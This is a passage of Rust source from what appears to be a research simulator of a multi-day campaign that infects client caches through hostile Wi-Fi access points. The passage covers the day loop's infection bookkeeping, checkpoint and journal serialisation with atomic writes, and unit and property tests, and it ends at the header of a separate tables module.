                clients: seats.len(),
                profile: config.fleet_hetero.then(|| ApProfile::for_ap(config.seed, ap)),
            },
            seats,
        });
    }

    // 5. Exposure: every visiting clean seat browses through its hostile
    //    AP and goes through the injection race.
    let jobs = fleet_jobs(config, ap_days.len());
    let outcomes = parallel_tasks(&ap_days, jobs, |ap_day| {
        // A seat keeps its browsing habit across days: the unprepared-object
        // trait is pinned to the campaign seat, not to today's local index.
        // On a rotation day every request is effectively "unprepared" — the
        // master's forged response still carries the stale object name, so
        // no race lands until it re-crawls overnight.
        let unprepared = |local: usize| {
            object_rotated || requests_unprepared_object(ap_day.seats[local] as usize)
        };
        simulate_ap_with(&ap_day.task, config, shared, &unprepared, true)
    });

    let mut newly_infected = 0usize;
    let mut failed_aps = 0usize;
    let mut events = 0u64;
    for (ap_outcome, ap_day) in outcomes.into_iter().zip(&ap_days) {
        match ap_outcome {
            Ok(ap) => {
                newly_infected += ap.infected;
                events += ap.events;
                cumulative.payload_bytes += ap.payload_bytes;
                cumulative.injected_events += ap.injected_events;
                cumulative.pending_bytes_dropped += ap.pending_bytes_dropped;
                for (local, &got_parasite) in ap.infected_flags.iter().enumerate() {
                    if got_parasite {
                        part.infected[ap_day.seats[local] as usize - part.seat_lo] = true;
                    }
                }
            }
            // A failed AP leaves its exposed seats clean; they are raced
            // again tomorrow.
            Err(_) => failed_aps += 1,
        }
    }
    cumulative.total_events += events;
    cumulative.failed_aps += failed_aps;

    // Fleet-wide abort semantics only apply when this shard *is* the
    // fleet; a partial shard reports its failures in its outcome and the
    // merge-time conversion re-applies the same rules globally.
    if plan.is_full(config) {
        if failed_aps == plan.aps && exposed > 0 {
            return Err(ExperimentError::Net(NetError::EventBudgetExhausted {
                budget: shared.map(SharedBudget::total).unwrap_or(config.event_budget),
            }));
        }
        if let Some(shared) = shared {
            // A drained global pool means part of today's fleet starved:
            // fail the campaign with the typed error instead of limping on.
            if failed_aps > 0 && shared.exhausted() {
                return Err(ExperimentError::Net(NetError::EventBudgetExhausted {
                    budget: shared.total(),
                }));
            }
        }
    }

    let infected = part.infected.iter().filter(|&&seat| seat).count();
    *completed_days = day;
    days.push(DayStats {
        day,
        departures,
        arrivals: departures,
        cache_clears,
        object_rotated,
        rotation_cured,
        exposed,
        newly_infected,
        failed_aps,
        infected,
        clean: part.infected.len() - infected,
        events,
    });
    Ok(())
}

// ---------------------------------------------------------------------------
// The partial-checkpoint codec
// ---------------------------------------------------------------------------

/// The configuration fields a checkpoint pins. Anything that changes the
/// campaign's deterministic trajectory must appear here — and *nothing*
/// else: pure scheduling hints (`fleet_jobs`, `fleet_shards`, worker
/// counts and shard assignments) and fields other experiments own
/// (`scale`, `sites`, the surface axes, …) are deliberately excluded, so a
/// campaign can resume under different `--jobs`/`--fleet-shards`/
/// `--workers` and still produce byte-identical output (pinned by
/// `resume_accepts_different_scheduling_hints` and the worker-count
/// regression test).
pub(super) fn config_fingerprint(config: &RunConfig) -> Json {
    Json::obj([
        ("seed", config.seed.to_json()),
        ("fleet_clients", config.fleet_clients.to_json()),
        ("fleet_aps", config.fleet_aps.to_json()),
        ("fleet_days", config.fleet_days.to_json()),
        ("fleet_churn", config.fleet_churn.to_json()),
        ("fleet_hetero", config.fleet_hetero.to_json()),
        ("fleet_visit_prob", config.fleet_visit_prob.to_json()),
        ("jitter_us", config.jitter_us.to_json()),
        ("event_budget", config.event_budget.to_json()),
    ])
}

/// Hex-encodes a seat bitmap as 64-seat words.
pub(super) fn encode_bitmap(infected: &[bool]) -> Json {
    let words = infected.chunks(64).map(|chunk| {
        let mut word = 0u64;
        for (bit, &seat) in chunk.iter().enumerate() {
            if seat {
                word |= 1 << bit;
            }
        }
        Json::Str(format!("{word:016x}"))
    });
    Json::Arr(words.collect())
}

/// Decodes [`encode_bitmap`] output back into `seats` booleans.
pub(super) fn decode_bitmap(json: &Json, seats: usize) -> Option<Vec<bool>> {
    let words = json.as_array()?;
    if words.len() != seats.div_ceil(64) {
        return None;
    }
    let mut infected = Vec::with_capacity(seats);
    for word in words {
        let word = u64::from_str_radix(word.as_str()?, 16).ok()?;
        for bit in 0..64 {
            if infected.len() == seats {
                // Bits beyond the population must be zero padding.
                if word >> bit != 0 {
                    return None;
                }
                break;
            }
            infected.push(word & (1 << bit) != 0);
        }
    }
    (infected.len() == seats).then_some(infected)
}

impl ShardOutcome {
    /// Serialises this outcome as a (partial) checkpoint document: the
    /// campaign configuration fingerprint, the completed-day count, the
    /// Figure 3 target-object state, one seat bitmap per covered AP range,
    /// the budget counters and the day-by-day statistics. The same
    /// document is the on-disk whole-campaign checkpoint and the worker
    /// protocol's `shard_result` payload.
    pub fn to_checkpoint_json(&self, config: &RunConfig) -> Json {
        Json::obj([
            ("version", CHECKPOINT_VERSION.to_json()),
            ("kind", CHECKPOINT_KIND.to_json()),
            ("config", config_fingerprint(config)),
            ("completed_days", self.completed_days.to_json()),
            (
                "target",
                Json::obj([
                    ("day", self.target.day.to_json()),
                    ("renames", self.target.renames.to_json()),
                    ("content_changes", self.target.content_changes.to_json()),
                    ("current_path", self.target.current_path.to_json()),
                    ("current_hash", Json::Str(format!("{:016x}", self.target.current_hash))),
                ]),
            ),
            (
                "shards",
                Json::Arr(
                    self.parts
                        .iter()
                        .map(|part| {
                            Json::obj([
                                ("first_ap", part.first_ap.to_json()),
                                ("aps", part.aps.to_json()),
                                ("seat_lo", part.seat_lo.to_json()),
                                ("seats", part.infected.len().to_json()),
                                ("infected", encode_bitmap(&part.infected)),
                            ])
                        })
                        .collect(),
                ),
            ),
            (
                "cumulative",
                Json::obj([
                    ("total_events", self.cumulative.total_events.to_json()),
                    ("payload_bytes", self.cumulative.payload_bytes.to_json()),
                    ("injected_events", self.cumulative.injected_events.to_json()),
                    ("pending_bytes_dropped", self.cumulative.pending_bytes_dropped.to_json()),
                    ("failed_aps", self.cumulative.failed_aps.to_json()),
                ]),
            ),
            ("days", self.days.to_json()),
        ])
    }

    /// Reads a (partial) checkpoint document back, validating it against
    /// the configuration: the kind/version discriminators, the
    /// configuration fingerprint, and every part's consistency with the
    /// static seat layout. The error strings are stable (callers prefix
    /// them with the document's origin).
    pub fn from_checkpoint_json(json: &Json, config: &RunConfig) -> Result<ShardOutcome, String> {
        let corrupt = || CORRUPT.to_string();
        if json.get("kind").and_then(Json::as_str) != Some(CHECKPOINT_KIND) {
            return Err(corrupt());
        }
        match json.get("version").and_then(Json::as_u64) {
            Some(CHECKPOINT_VERSION) => {}
            // A recognised checkpoint of a codec this build does not speak
            // is its own failure: "corrupt" would invite deleting a
            // perfectly good file written by a newer build.
            Some(other) => {
                return Err(format!(
                    "uses unsupported checkpoint codec version {other} \
                     (this build reads version {CHECKPOINT_VERSION})"
                ));
            }
            None => return Err(corrupt()),
        }
        if json.get("config") != Some(&config_fingerprint(config)) {
            return Err(MISMATCH.to_string());
        }
        let layout = seat_layout(config).map_err(|_| corrupt())?;
        let total_aps = config.fleet_aps.max(1);

        let completed_days =
            json.get("completed_days").and_then(Json::as_u64).ok_or_else(corrupt)? as u32;

        let target_json = json.get("target").ok_or_else(corrupt)?;
        let mut target = ChurningObject::new(
            "/my.js",
            StabilityClass::SlowChurn,
            mix_seed(config.seed, TARGET_TAG),
        );
        target.day = target_json.get("day").and_then(Json::as_u64).ok_or_else(corrupt)? as u32;
        target.renames =
            target_json.get("renames").and_then(Json::as_u64).ok_or_else(corrupt)? as u32;
        target.content_changes =
            target_json.get("content_changes").and_then(Json::as_u64).ok_or_else(corrupt)? as u32;
        target.current_path = target_json
            .get("current_path")
            .and_then(Json::as_str)
            .ok_or_else(corrupt)?
            .to_string();
        target.current_hash = target_json
            .get("current_hash")
            .and_then(Json::as_str)
            .and_then(|hex| u64::from_str_radix(hex, 16).ok())
            .ok_or_else(corrupt)?;

        let mut parts = Vec::new();
        for part_json in json.get("shards").and_then(Json::as_array).ok_or_else(corrupt)? {
            let first_ap =
                part_json.get("first_ap").and_then(Json::as_u64).ok_or_else(corrupt)? as usize;
            let aps = part_json.get("aps").and_then(Json::as_u64).ok_or_else(corrupt)? as usize;
            let seat_lo =
                part_json.get("seat_lo").and_then(Json::as_u64).ok_or_else(corrupt)? as usize;
            let seats = part_json.get("seats").and_then(Json::as_u64).ok_or_else(corrupt)? as usize;
            if aps == 0
                || first_ap + aps > total_aps
                || seat_lo != layout.offsets[first_ap]
                || seat_lo + seats != layout.offsets[first_ap + aps]
            {
                return Err(corrupt());
            }
            let infected = part_json
                .get("infected")
                .and_then(|bitmap| decode_bitmap(bitmap, seats))
                .ok_or_else(corrupt)?;
            parts.push(ShardPart { first_ap, aps, seat_lo, infected });
        }
        for window in parts.windows(2) {
            if window[0].ap_range().end > window[1].ap_range().start {
                return Err(corrupt());
            }
        }

        let cumulative_json = json.get("cumulative").ok_or_else(corrupt)?;
        let field = |key: &str| cumulative_json.get(key).and_then(Json::as_u64).ok_or_else(corrupt);
        let cumulative = Cumulative {
            total_events: field("total_events")?,
            payload_bytes: field("payload_bytes")?,
            injected_events: field("injected_events")?,
            pending_bytes_dropped: field("pending_bytes_dropped")?,
            failed_aps: field("failed_aps")? as usize,
        };

        let days = json
            .get("days")
            .and_then(Json::as_array)
            .ok_or_else(corrupt)?
            .iter()
            .map(DayStats::from_json)
            .collect::<Option<Vec<DayStats>>>()
            .ok_or_else(corrupt)?;
        if days.len() != completed_days as usize {
            return Err(corrupt());
        }

        Ok(ShardOutcome { completed_days, target, parts, days, cumulative })
    }
}

/// Writes the checkpoint atomically (temp file in the same directory, then
/// rename), so a kill mid-write leaves the previous day's checkpoint intact.
///
/// The temp name carries the pid and a process-wide counter: two writers
/// pointed at the same checkpoint path (concurrent runs, or shard workers
/// sharing a staging directory) must not scribble into one shared temp
/// file — with a fixed `.tmp` suffix, writer A's rename could publish
/// writer B's half-written document. Unique temp names keep every rename
/// atomic and whole-file.
pub(super) fn write_checkpoint(
    path: &Path,
    config: &RunConfig,
    outcome: &ShardOutcome,
) -> Result<(), ExperimentError> {
    static WRITER: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(0);
    let document = outcome.to_checkpoint_json(config).to_string();
    let mut temp = path.to_path_buf();
    let mut name = path.file_name().unwrap_or_default().to_os_string();
    name.push(format!(
        ".tmp.{}.{}",
        std::process::id(),
        WRITER.fetch_add(1, std::sync::atomic::Ordering::Relaxed)
    ));
    temp.set_file_name(name);
    std::fs::write(&temp, document)
        .and_then(|()| std::fs::rename(&temp, path))
        .map_err(|error| {
            // Leave no orphan behind if the rename (not the write) failed.
            let _ = std::fs::remove_file(&temp);
            ExperimentError::Checkpoint(format!("writing {} failed: {error}", path.display()))
        })
}

/// Loads and validates a *full-coverage* checkpoint written by
/// [`write_checkpoint`] (the single-process resume path), coalescing its
/// parts into the flat shape the day loop runs on.
pub(super) fn load_checkpoint(
    path: &Path,
    config: &RunConfig,
) -> Result<ShardOutcome, ExperimentError> {
    let text = std::fs::read_to_string(path).map_err(|error| {
        ExperimentError::Checkpoint(format!("reading {} failed: {error}", path.display()))
    })?;
    let json = Json::parse(&text)
        .map_err(|_| CORRUPT.to_string())
        .and_then(|json| ShardOutcome::from_checkpoint_json(&json, config));
    let outcome = match json {
        Ok(outcome) => outcome,
        Err(message) => {
            return Err(ExperimentError::Checkpoint(format!("{} {message}", path.display())))
        }
    };
    let layout = seat_layout(config)?;
    outcome
        .coalesce(config, &layout)
        .map_err(|message| ExperimentError::Checkpoint(format!("{} {message}", path.display())))
}

// ---------------------------------------------------------------------------
// The coordinator journal
// ---------------------------------------------------------------------------
//
// A journal directory is the coordinator's durable state: one finished
// `ShardOutcome` per file, in the ordinary checkpoint codec, written
// atomically through `write_checkpoint` as each worker's range completes.
// A coordinator that dies (kill -9, power cut, torn write) restarts with
// `--journal <dir>`, scans the directory, keeps every entry that validates
// against the campaign fingerprint, re-runs only the AP ranges with no
// valid entry, and merges — `merge`'s associativity makes the result
// byte-identical to an uninterrupted run by construction.

/// The result of scanning a journal directory.
#[derive(Debug)]
pub struct JournalScan {
    /// Validated, completed shard outcomes, sorted by first AP and
    /// pairwise disjoint.
    pub outcomes: Vec<ShardOutcome>,
    /// Entries discarded as damaged (torn writes, truncated JSON, bad seat
    /// bitmaps, incomplete horizons): the path and the reason. The files
    /// have been deleted — their ranges are simply re-run.
    pub discarded: Vec<(PathBuf, String)>,
}

/// Why one journal entry could not be used.
enum JournalEntryError {
    /// The file is damaged; discarding it is safe (the range re-runs).
    Corrupt(String),
    /// The file is intact but belongs to a different campaign (fingerprint
    /// mismatch) or codec version: the scan aborts instead of silently
    /// destroying another run's durable progress.
    Foreign(String),
}

/// Whether a decode failure means "intact but not ours" (abort the scan)
/// rather than "damaged" (discard and re-run).
fn is_foreign_entry(message: &str) -> bool {
    message == MISMATCH || message.contains("unsupported checkpoint codec version")
}

/// The canonical journal file name of a shard range: derived from the range
/// alone, so a retried shard overwrites (atomically) rather than duplicates
/// its entry, and a resumed coordinator with a different worker count still
/// recognises completed ranges.
fn journal_file_name(first_ap: usize, aps: usize) -> String {
    format!("shard-{first_ap:06}-{aps:06}.json")
}

/// Writes one completed shard outcome into the journal directory
/// (atomically, via the checkpoint writer's temp+rename), returning the
/// entry's path.
pub fn write_journal_entry(
    dir: &Path,
    config: &RunConfig,
    outcome: &ShardOutcome,
) -> Result<PathBuf, ExperimentError> {
    let (first_ap, aps) = outcome.covered_range().map_err(ExperimentError::Checkpoint)?;
    std::fs::create_dir_all(dir).map_err(|error| {
        ExperimentError::Checkpoint(format!(
            "cannot create the journal directory {}: {error}",
            dir.display()
        ))
    })?;
    let path = dir.join(journal_file_name(first_ap, aps));
    write_checkpoint(&path, config, outcome)?;
    Ok(path)
}

/// Loads and validates one journal entry: the ordinary checkpoint decode
/// plus the journal's own contract — the entry must cover one contiguous
/// range and must have reached the campaign's full horizon (the journal
/// records *finished* shards only).
fn load_journal_entry(
    path: &Path,
    config: &RunConfig,
) -> Result<ShardOutcome, JournalEntryError> {
    let text = std::fs::read_to_string(path)
        .map_err(|error| JournalEntryError::Corrupt(format!("cannot be read: {error}")))?;
    let json =
        Json::parse(&text).map_err(|_| JournalEntryError::Corrupt(CORRUPT.to_string()))?;
    let outcome = ShardOutcome::from_checkpoint_json(&json, config).map_err(|message| {
        if is_foreign_entry(&message) {
            JournalEntryError::Foreign(message)
        } else {
            JournalEntryError::Corrupt(message)
        }
    })?;
    let horizon = config.fleet_days.max(1);
    if outcome.completed_days != horizon {
        return Err(JournalEntryError::Corrupt(format!(
            "covers only {} of {horizon} campaign days",
            outcome.completed_days
        )));
    }
    outcome.covered_range().map_err(JournalEntryError::Corrupt)?;
    Ok(outcome)
}

/// Scans a journal directory: validates every `*.json` entry against the
/// campaign configuration, deletes (and reports) damaged entries, and
/// returns the valid outcomes sorted and checked disjoint. A missing
/// directory is an empty scan (first run); an entry from a *different*
/// campaign or codec version aborts with a typed error instead of being
/// deleted; overlapping entries (a journal shared by incompatible splits)
/// abort likewise.
pub fn scan_journal(dir: &Path, config: &RunConfig) -> Result<JournalScan, ExperimentError> {
    let mut scan = JournalScan { outcomes: Vec::new(), discarded: Vec::new() };
    let entries = match std::fs::read_dir(dir) {
        Ok(entries) => entries,
        Err(error) if error.kind() == std::io::ErrorKind::NotFound => return Ok(scan),
        Err(error) => {
            return Err(ExperimentError::Checkpoint(format!(
                "cannot scan the journal {}: {error}",
                dir.display()
            )));
        }
    };
    let mut paths: Vec<PathBuf> = entries
        .flatten()
        .map(|entry| entry.path())
        .filter(|path| {
            let name = path.file_name().and_then(|name| name.to_str()).unwrap_or("");
            // Skip in-flight temp files: a concurrent (or killed) writer's
            // `.tmp.` files are not entries.
            name.ends_with(".json") && !name.contains(".tmp.")
        })
        .collect();
    paths.sort();
    let mut ranges: Vec<(usize, usize)> = Vec::new();
    for path in paths {
        match load_journal_entry(&path, config) {
            Ok(outcome) => {
                // `load_journal_entry` validated contiguity above.
                if let Ok(range) = outcome.covered_range() {
                    ranges.push(range);
                }
                scan.outcomes.push(outcome);
            }
            Err(JournalEntryError::Corrupt(message)) => {
                let _ = std::fs::remove_file(&path);
                scan.discarded.push((path, message));
            }
            Err(JournalEntryError::Foreign(message)) => {
                return Err(ExperimentError::Checkpoint(format!(
                    "journal entry {} {message}",
                    path.display()
                )));
            }
        }
    }
    scan.outcomes.sort_by_key(|outcome| outcome.parts[0].first_ap);
    ranges.sort_unstable();
    for pair in ranges.windows(2) {
        let ((a_first, a_aps), (b_first, b_aps)) = (pair[0], pair[1]);
        if a_first + a_aps > b_first {
            return Err(ExperimentError::Checkpoint(format!(
                "journal {} holds overlapping shard ranges [{a_first}, {}) and \
                 [{b_first}, {}); it mixes incompatible runs — delete the \
                 directory and restart",
                dir.display(),
                a_first + a_aps,
                b_first + b_aps
            )));
        }
    }
    Ok(scan)
}

#[cfg(test)]
mod tests {
    use super::super::{ExperimentId, Registry};
    use super::*;
    use proptest::prelude::*;

    fn small_config() -> RunConfig {
        RunConfig {
            seed: 7,
            fleet_clients: 400,
            fleet_aps: 4,
            fleet_days: 3,
            fleet_churn: 0.2,
            fleet_jobs: 1,
            ..RunConfig::default()
        }
    }

    /// Synthetic disjoint shard outcomes sharing one campaign skeleton:
    /// random counters, no simulations — merge algebra only.
    fn synthetic_outcomes(seed: u64, shards: usize, days: u32) -> Vec<ShardOutcome> {
        let mut rng = StdRng::seed_from_u64(seed);
        let target = ChurningObject::new("/my.js", StabilityClass::SlowChurn, seed);
        let rotated: Vec<bool> = (0..days).map(|_| rng.gen_bool(0.3)).collect();
        (0..shards)
            .map(|shard| {
                let infected: Vec<bool> = (0..100).map(|_| rng.gen_bool(0.5)).collect();
                ShardOutcome {
                    completed_days: days,
                    target: target.clone(),
                    parts: vec![ShardPart {
                        first_ap: shard * 4,
                        aps: 4,
                        seat_lo: shard * 100,
                        infected,
                    }],
                    days: (0..days)
                        .map(|day| DayStats {
                            day: day + 1,
                            departures: rng.gen_range(0..50),
                            arrivals: rng.gen_range(0..50),
                            cache_clears: rng.gen_range(0..10),
                            object_rotated: rotated[day as usize],
                            rotation_cured: rng.gen_range(0..20),
                            exposed: rng.gen_range(0..100),
                            newly_infected: rng.gen_range(0..100),
                            failed_aps: rng.gen_range(0..4),
                            infected: rng.gen_range(0..100),
                            clean: rng.gen_range(0..100),
                            events: rng.gen_range(0..100_000),
                        })
                        .collect(),
                    cumulative: Cumulative {
                        total_events: rng.gen_range(0..1_000_000),
                        payload_bytes: rng.gen_range(0..1_000_000),
                        injected_events: rng.gen_range(0..10_000),
                        pending_bytes_dropped: rng.gen_range(0..10_000),
                        failed_aps: rng.gen_range(0..8),
                    },
                }
            })
            .collect()
    }

    fn fold_merge(outcomes: &[ShardOutcome]) -> ShardOutcome {
        let mut merged = outcomes[0].clone();
        for outcome in &outcomes[1..] {
            merged = merged.merge(outcome.clone()).expect("disjoint outcomes merge");
        }
        merged
    }

    proptest! {
        #[test]
        fn merge_is_associative_and_order_insensitive(
            seed in any::<u64>(),
            shards in 2usize..6,
            days in 0u32..5,
            perm_seed in any::<u64>(),
        ) {
            let outcomes = synthetic_outcomes(seed, shards, days);
            // Left fold == right fold (associativity across the whole list).
            let left = fold_merge(&outcomes);
            let mut right = outcomes.last().expect("nonempty").clone();
            for outcome in outcomes.iter().rev().skip(1) {
                right = outcome.clone().merge(right).expect("disjoint outcomes merge");
            }
            prop_assert_eq!(&left, &right);
            // Any permutation folds to the identical outcome...
            let mut shuffled = outcomes.clone();
            let mut perm_rng = StdRng::seed_from_u64(perm_seed);
            for index in (1..shuffled.len()).rev() {
                shuffled.swap(index, perm_rng.gen_range(0..=index));
            }
            let permuted = fold_merge(&shuffled);
            prop_assert_eq!(&left, &permuted);
            // ...down to the serialised wire form.
            let config = small_config();
            prop_assert_eq!(
                left.to_checkpoint_json(&config).to_string(),
                permuted.to_checkpoint_json(&config).to_string()
            );
        }
    }

    #[test]
    fn merge_rejects_overlaps_and_mismatched_horizons() {
        let outcomes = synthetic_outcomes(11, 2, 3);
        // Overlap: merging an outcome with itself covers the same APs twice.
        let error = outcomes[0].clone().merge(outcomes[0].clone()).expect_err("overlap");
        assert!(error.contains("overlapping"), "got: {error}");
        // Horizon mismatch: different completed-day counts cannot merge.
        let mut short = outcomes[1].clone();
        short.completed_days = 2;
        short.days.pop();
        let error = outcomes[0].clone().merge(short).expect_err("horizon mismatch");
        assert!(error.contains("horizons"), "got: {error}");
        // Target divergence means the configs differed.
        let mut diverged = outcomes[1].clone();
        diverged.target.renames += 1;
        let error = outcomes[0].clone().merge(diverged).expect_err("target divergence");
        assert!(error.contains("target"), "got: {error}");
    }

    #[test]
    fn distributed_split_merges_to_the_single_process_artifact() {
        let config = small_config();
        let reference = Registry::get(ExperimentId::CampaignFleet).run(&config);
        let reference = reference.data.as_campaign_fleet().expect("campaign artifact");
        for workers in [2usize, 3, 4] {
            let plans = ShardPlan::split(&config, workers);
            assert_eq!(plans.iter().map(|p| p.aps).sum::<usize>(), 4);
            let partials: Vec<ShardOutcome> = plans
                .iter()
                .map(|&plan| {
                    let outcome = run_campaign_shard(&config, plan, &RunCtx::default())
                        .expect("shard runs");
                    // Round-trip through the wire form, as a worker would.
                    let wire = outcome.to_checkpoint_json(&config).to_string();
                    let parsed = Json::parse(&wire).expect("wire form parses");
                    ShardOutcome::from_checkpoint_json(&parsed, &config)
                        .expect("wire form decodes")
                })
                .collect();
            let merged = fold_merge(&partials)
                .into_fleet_result(&config)
                .expect("full coverage converts");
            assert_eq!(&merged, reference, "{workers} workers");
            assert_eq!(
                merged.to_json().to_string(),
                reference.to_json().to_string(),
                "byte-identical under {workers} workers"
            );
        }
    }

    #[test]
    fn worker_count_never_enters_the_checkpoint_fingerprint() {
        // The fingerprint must pin the trajectory and nothing else: no
        // scheduling hints, no worker counts, no shard assignments.
        let config = small_config();
        let fingerprint = config_fingerprint(&config).to_string();
        assert!(!fingerprint.contains("fleet_jobs"));
        assert!(!fingerprint.contains("fleet_shards"));
        let hinted = RunConfig { fleet_jobs: 8, fleet_shards: 16, ..config };
        assert_eq!(config_fingerprint(&hinted), config_fingerprint(&config));

        // A checkpoint assembled from a 4-worker run's merged partials
        // resumes byte-identically under 1 or 8 workers' worth of hints.
        let dir = std::env::temp_dir()
            .join(format!("mp-distrib-test-{}-fingerprint", std::process::id()));
        std::fs::create_dir_all(&dir).expect("temp dir");
        let path = dir.join("merged.ckpt.json");
        let _ = std::fs::remove_file(&path);

        let reference = super::super::multiday::run_campaign_with_checkpoint(&config, &path)
            .expect("reference run");
        let _ = std::fs::remove_file(&path);

        let partials: Vec<ShardOutcome> = ShardPlan::split(&config, 4)
            .into_iter()
            .map(|plan| {
                let mut outcome = ShardOutcome::fresh(&config, plan).expect("fresh shard");
                run_shard(&config, plan, &RunCtx::default(), &mut outcome, None, 2)
                    .expect("shard runs to day 2");
                outcome
            })
            .collect();
        assert_eq!(partials.len(), 4);
        let merged = fold_merge(&partials);
        write_checkpoint(&path, &config, &merged).expect("merged checkpoint written");

        for hints in [
            RunConfig { fleet_jobs: 1, ..config },
            RunConfig { fleet_jobs: 4, fleet_shards: 8, ..config },
        ] {
            let resumed = super::super::multiday::run_campaign_with_checkpoint(&hints, &path)
                .expect("resumed run");
            let normalized = CampaignFleetResult { shards: reference.shards, ..resumed };
            assert_eq!(normalized, reference, "resume under different worker hints");
            assert_eq!(
                normalized.to_json().to_string(),
                reference.to_json().to_string(),
                "down to the JSON wire form"
            );
            // Resuming consumed the checkpoint's day-2 state; restore it.
            write_checkpoint(&path, &config, &merged).expect("checkpoint restored");
        }
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn corrupt_checkpoint_documents_yield_typed_errors() {
        let config = small_config();
        let dir = std::env::temp_dir()
            .join(format!("mp-distrib-test-{}-corrupt", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).expect("temp dir");
        let outcome = ShardOutcome::fresh(&config, ShardPlan { first_ap: 0, aps: 4 })
            .expect("fresh outcome");
        let path = dir.join("seed.ckpt.json");
        write_checkpoint(&path, &config, &outcome).expect("seed checkpoint");
        let text = std::fs::read_to_string(&path).expect("seed text");

        let expect_checkpoint_error = |name: &str, body: &str, probe: &RunConfig, want: &str| {
            let mutated = dir.join(name);
            std::fs::write(&mutated, body).expect("mutated checkpoint");
            match load_checkpoint(&mutated, probe) {
                Err(ExperimentError::Checkpoint(message)) => {
                    assert!(message.contains(want), "{name}: got {message:?}, want {want:?}");
                }
                other => panic!("{name}: expected a checkpoint error, got {other:?}"),
            }
        };

        // Truncated JSON: a torn write that lost its tail.
        expect_checkpoint_error(
            "truncated.json",
            &text[..text.len() / 2],
            &config,
            "is not a valid campaign checkpoint",
        );
        // A seat bitmap with non-hex digits.
        assert!(text.contains("0000000000000000"), "fresh bitmaps are zero words");
        expect_checkpoint_error(
            "bad-hex.json",
            &text.replacen("0000000000000000", "zz00000000000000", 1),
            &config,
            "is not a valid campaign checkpoint",
        );
        // An intact checkpoint from a different campaign.
        expect_checkpoint_error(
            "mismatch.json",
            &text,
            &RunConfig { seed: config.seed + 1, ..config },
            "different campaign configuration",
        );
        // A future codec version names both versions instead of guessing.
        expect_checkpoint_error(
            "future.json",
            &text.replacen("\"version\":2", "\"version\":99", 1),
            &config,
            "unsupported checkpoint codec version 99",
        );
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn journal_scan_merges_discards_and_aborts() {
        let config = small_config();
        let dir = std::env::temp_dir()
            .join(format!("mp-distrib-test-{}-journal", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);

        // A missing directory is a first run: an empty scan, not an error.
        let scan = scan_journal(&dir, &config).expect("missing dir scans");
        assert!(scan.outcomes.is_empty() && scan.discarded.is_empty());

        // Two completed shards journal and scan back to the byte-identical
        // single-process artifact.
        let reference = Registry::get(ExperimentId::CampaignFleet).run(&config);
        let reference = reference.data.as_campaign_fleet().expect("campaign artifact");
        for &plan in &ShardPlan::split(&config, 2) {
            let outcome =
                run_campaign_shard(&config, plan, &RunCtx::default()).expect("shard runs");
            write_journal_entry(&dir, &config, &outcome).expect("journal entry");
        }
        let scan = scan_journal(&dir, &config).expect("clean journal scans");
        assert_eq!(scan.outcomes.len(), 2);
        assert!(scan.discarded.is_empty());
        let merged =
            fold_merge(&scan.outcomes).into_fleet_result(&config).expect("full coverage");
        assert_eq!(
            merged.to_json().to_string(),
            reference.to_json().to_string(),
            "journal resume must be byte-identical"
        );

        // Damaged entries are discarded (and deleted) with a reason; the
        // surviving shards still scan.
        let good = dir.join(journal_file_name(0, 2));
        let good_text = std::fs::read_to_string(&good).expect("good entry text");
        let torn = dir.join("shard-000009-000001.json");
        std::fs::write(&torn, &good_text[..good_text.len() / 2]).expect("torn entry");
        let unfinished = ShardOutcome::fresh(&config, ShardPlan { first_ap: 0, aps: 4 })
            .expect("fresh outcome");
        let unfinished_path =
            write_journal_entry(&dir, &config, &unfinished).expect("unfinished entry");
        let scan = scan_journal(&dir, &config).expect("scan survives damage");
        assert_eq!(scan.outcomes.len(), 2, "the two finished shards survive");
        assert_eq!(scan.discarded.len(), 2, "torn + unfinished are discarded");
        assert!(!torn.exists() && !unfinished_path.exists(), "damaged entries are deleted");
        assert!(
            scan.discarded.iter().any(|(_, why)| why.contains("covers only 0 of 3")),
            "got: {:?}",
            scan.discarded
        );

        // An intact entry from a different campaign aborts the scan — it is
        // someone else's durable progress, not ours to delete.
        let foreign_config = RunConfig { seed: config.seed + 1, ..config };
        let foreign = run_campaign_shard(
            &foreign_config,
            ShardPlan { first_ap: 3, aps: 1 },
            &RunCtx::default(),
        )
        .expect("foreign shard runs");
        let foreign_path =
            write_journal_entry(&dir, &foreign_config, &foreign).expect("foreign entry");
        match scan_journal(&dir, &config) {
            Err(ExperimentError::Checkpoint(message)) => {
                assert!(message.contains("different campaign configuration"), "got: {message}");
            }
            other => panic!("expected a foreign-entry abort, got {other:?}"),
        }
        assert!(foreign_path.exists(), "foreign entries are never deleted");
        std::fs::remove_file(&foreign_path).expect("clear foreign entry");

        // So does an entry written by a future codec version.
        let future = dir.join("shard-000009-000001.json");
        std::fs::write(&future, good_text.replacen("\"version\":2", "\"version\":99", 1))
            .expect("future entry");
        match scan_journal(&dir, &config) {
            Err(ExperimentError::Checkpoint(message)) => {
                assert!(message.contains("unsupported checkpoint codec version"), "got: {message}");
            }
            other => panic!("expected a version abort, got {other:?}"),
        }
        assert!(future.exists(), "future-version entries are never deleted");
        std::fs::remove_file(&future).expect("clear future entry");

        // Overlapping valid entries mean the journal mixes incompatible
        // splits: abort rather than double-count seats.
        let overlap = dir.join("shard-000001-000002.json");
        std::fs::write(&overlap, &good_text).expect("overlap entry");
        match scan_journal(&dir, &config) {
            Err(ExperimentError::Checkpoint(message)) => {
                assert!(
                    message.contains("overlapping shard ranges"),
                    "got: {message}"
                );
            }
            other => panic!("expected an overlap abort, got {other:?}"),
        }
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn partial_outcomes_refuse_fleet_conversion() {
        let config = small_config();
        let plan = ShardPlan { first_ap: 0, aps: 2 };
        let outcome = run_campaign_shard(&config, plan, &RunCtx::default()).expect("shard runs");
        match outcome.into_fleet_result(&config) {
            Err(ExperimentError::Checkpoint(message)) => {
                assert!(message.contains("does not cover the fleet"), "got: {message}");
            }
            other => panic!("expected a coverage error, got {other:?}"),
        }
    }
}
