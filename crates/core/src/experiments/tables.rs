//! Table I–V runners and their result types.
//!
//! Each runner takes the uniform [`RunConfig`] and produces a structured
//! result with a paper-shaped `render()` plus a [`ToJson`] conversion; the
//! [`super::Experiment`] impls in the parent module wrap them into
//! [`super::Artifact`]s.

